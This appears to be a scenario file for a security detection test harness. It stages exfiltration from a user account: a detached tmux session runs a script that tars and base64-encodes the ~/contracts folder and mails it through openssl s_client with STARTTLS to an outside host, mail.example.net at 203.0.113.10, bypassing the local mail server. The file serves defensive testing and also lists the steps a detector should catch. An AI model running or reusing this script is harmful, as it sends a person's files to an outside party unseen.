# A detached tmux server gives the sender a terminal that nobody looks at.
title="openssl s_client -starttls smtp in a detached tmux session"
what="A remote command of clerk starts a tmux server and detaches. Inside it a script packs ~/contracts, encodes it and speaks SMTP through openssl s_client with STARTTLS to 203.0.113.10 port 587. The script has
a terminal, but nobody sits at it; the own mail server has no part in it."
host=ws3.example.org user=clerk daemons="cron sshd" syslog_format=iso

setup() {
  mkdir -p /home/clerk/contracts /home/clerk/.local/share/w; head -c 60000 /dev/urandom > /home/clerk/contracts/frame.odt
  cat > /home/clerk/.local/share/w/s <<'P'
{ sleep 1; printf 'EHLO ws3\r\n'; sleep 1; printf 'MAIL FROM:<clerk@example.org>\r\n'; sleep 1; printf 'RCPT TO:<n81@example.net>\r\n'; sleep 1; printf 'DATA\r\n'; sleep 1
  printf 'Subject: n81\r\n\r\n'; tar -C "$HOME" -czf - contracts | base64; printf '\r\n.\r\n'; sleep 1; printf 'QUIT\r\n'; sleep 1; } | openssl s_client -quiet -starttls smtp -connect mail.example.net:587
P
  chown -R clerk: /home/clerk/contracts /home/clerk/.local
}
act() {
  small_talk 2
  ssh_run clerk 'tmux -L w new-session -d "sh .local/share/w/s"; sleep 12'
  small_talk 1
}
truth() {
  exec_step terminal 'tmux -L w new-session -d' 'a terminal without a person'
  exec_step start 'sh .local/share/w/s' 'the script starts in it'
  net_step connect 'openssl 203.0.113.10:587' 'a TLS client speaks SMTP'
  exec_step pack 'tar -C /home/clerk -czf' 'a folder is packed'
}
